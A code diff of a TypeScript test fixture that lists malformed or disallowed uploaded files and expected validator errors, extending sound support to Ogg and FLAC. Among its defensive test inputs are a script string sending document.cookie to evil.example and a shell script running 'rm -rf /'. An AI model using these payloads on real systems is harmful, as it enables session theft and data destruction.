@@ -14,6 +14,7 @@ import {
   webmOf,
   webmTrack,
 } from '#test/media-files.ts';
+import { keptSound } from '#test/sounds/kept-sound.ts';
 
 export type FileContent = Uint8Array | string | Promise<Uint8Array>;
 /** A file that must not be taken, and what is said of it. */
@@ -22,7 +23,7 @@ export type HostileFile = [name: string, content: () => FileContent, reason: str
 export const svg = (inside = '') =>
   `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">${inside}<rect width="9" height="9"/></svg>`;
 export const script = '<script>fetch("https://evil.example/" + document.cookie)</script>';
-export const allowed = /^file must be a PNG, JPEG, WebP, HEIC or AVIF picture or a WAV, MP3 or WebM sound/;
+export const allowed = /^file must be a PNG, JPEG, WebP, HEIC or AVIF picture or a WAV, MP3, Ogg, FLAC or WebM sound/;
 const text = (latin1: string, zeros = 2000) => Buffer.concat([Buffer.from(latin1, 'latin1'), Buffer.alloc(zeros)]);
 export const hex = (digits: string, zeros = 2000) => Buffer.concat([Buffer.from(digits, 'hex'), Buffer.alloc(zeros)]);
 
@@ -53,9 +54,13 @@ export const wrongTypes: HostileFile[] = [
   ['a program of Windows', () => text('MZ'), /\(this is exe\)/],
   ['a shell script', () => '#!/bin/sh\nrm -rf /\n', allowed],
   ['WebAssembly', () => hex('0061736d01000000'), /\(this is wasm\)/],
-  ['an Ogg sound', () => text('OggS\0\u0002'), /\(this is og[gx]\)/],
-  ['a FLAC sound', () => text('fLaC'), /\(this is flac\)/],
-  ['an AAC sound', () => hex('fff15080'), /\(this is aac\)/],
+  ['an Ogg file of nothing that is known', () => text('OggS\0\u0002'), /\(this is ogx\)/],
+  ['an AAC sound', () => hex('fff15080'), /\(this is AAC, which cannot be read here\)/],
+  [
+    'an m4a of a telephone',
+    () => keptSound('tone.m4a'),
+    /\(this is m4a, whose AAC or ALAC sound cannot be read here\)/,
+  ],
   ['an MPEG sound of layer II', () => mp3Of(4, [0xff, 0xfd, 0x90, 0xc0]), allowed],
   ['an MP4 film', () => text('\0\0\0\u0018ftypisom\0\0\u0002\0isomiso2'), /\(this is mp4\)/],
   ['an AVI film', () => text('RIFF\0\0\0\u0010AVI LIST'), /\(this is avi\)/],
@@ -171,6 +176,10 @@ export const pictures: HostileFile[] = [
   ],
 ];
 
+const noisy = async (name: string, from: number) => {
+  const bytes = await keptSound(name);
+  return Buffer.concat([bytes.subarray(0, from), Buffer.alloc(bytes.length - from, 0x5a)]);
+};
 const wave = (data: Uint8Array, shape = {}, size?: number) => riff(['fmt ', wavFormat(shape)], ['data', data, size]);
 const floats = (...values: number[]) => Buffer.from(new Float32Array([...Array(400).fill(0), ...values]).buffer);
 const brokenSound = 'file must be a whole sound: this one';
@@ -192,11 +201,6 @@ export const sounds: HostileFile[] = [
   ],
   ['a WAV that ends in the middle', () => part(wavOf(1), 0.5), `${brokenSound} is shorter than it says`],
   [
-    'a WAV that says it has 4 GiB',
-    () => wave(Buffer.alloc(800), {}, 0xffffffff),
-    `${brokenSound} is shorter than it says`,
-  ],
-  [
     'a WAV that does not say how it is written',
     () => riff(['data', Buffer.alloc(800)]),
     `${brokenSound} does not say how`,
@@ -212,11 +216,11 @@ export const sounds: HostileFile[] = [
     `${brokenSound} does not say how`,
   ],
   [
-    'a WAV with six channels',
-    () => wave(Buffer.alloc(1200), { channels: 6 }),
-    'file must be a sound of one or two channels (this has 6)',
+    'a WAV with nine channels',
+    () => wave(Buffer.alloc(1800), { channels: 9 }),
+    'file must be a sound of 1 to 8 channels (this has 9)',
   ],
-  ['a WAV without a channel', () => wave(Buffer.alloc(1200), { channels: 0 }), 'one or two channels (this has 0)'],
+  ['a WAV without a channel', () => wave(Buffer.alloc(1200), { channels: 0 }), '1 to 8 channels (this has 0)'],
   [
     'a WAV of one sample a second',
     () => wave(Buffer.alloc(800), { rate: 1 }),
@@ -232,17 +236,12 @@ export const sounds: HostileFile[] = [
     () => wave(Buffer.alloc(1200), { bits: 12 }),
     'file must be a WAV of PCM with 8, 16, 24 or 32 bits',
   ],
-  [
-    'a WAV of ADPCM',
-    () => wave(Buffer.alloc(1200), { format: 2 }),
-    'file must be a WAV of PCM with 8, 16, 24 or 32 bits',
-  ],
+  ['a WAV of ADPCM', () => keptSound('adpcm.wav'), '(this is IMA ADPCM)'],
   [
     'a WAV that contradicts itself',
     () => wave(Buffer.alloc(1200), { bytesPerFrame: 7 }),
     `${brokenSound} contradicts itself`,
   ],
-  ['a WAV that ends within a sample', () => wave(Buffer.alloc(801)), `${brokenSound} ends within a sample`],
   [
     'a WAV that is too long',
     () => wave(Buffer.alloc(8000 * maxSoundSeconds + 1, 128), { bits: 8 }),
@@ -284,9 +283,14 @@ export const sounds: HostileFile[] = [
     'file must have sound: this WebM has no sound',
   ],
   [
-    'a WebM with the sound of another codec',
-    () => webmTrack(2, 'A_VORBIS', [Buffer.alloc(40)]),
-    /^file must be a W?e?b?M?.*/,
+    'a WebM of a codec that it cannot have',
+    () => webmTrack(2, 'A_AAC', [Buffer.alloc(40)]),
+    'this has another codec (aac)',
   ],
+  ['a WebM of Vorbis without its headers', () => webmTrack(2, 'A_VORBIS', [Buffer.alloc(40)]), brokenSound],
+  ['an Ogg that ends within a page', () => part(keptSound('vorbis.ogg'), 0.8), `${brokenSound} ends too early`],
+  ['an Ogg whose pages are noise', () => noisy('vorbis.ogg', 600), brokenSound],
+  ['a FLAC that ends in the middle', () => part(keptSound('tone.flac'), 0.6), brokenSound],
+  ['a FLAC that is nothing but its beginning', () => text('fLaC'), brokenSound],
   ['a WebM whose blocks are broken', () => webmTrack(2, 'A_OPUS', [Buffer.from('ff00', 'hex')]), brokenSound],
 ];
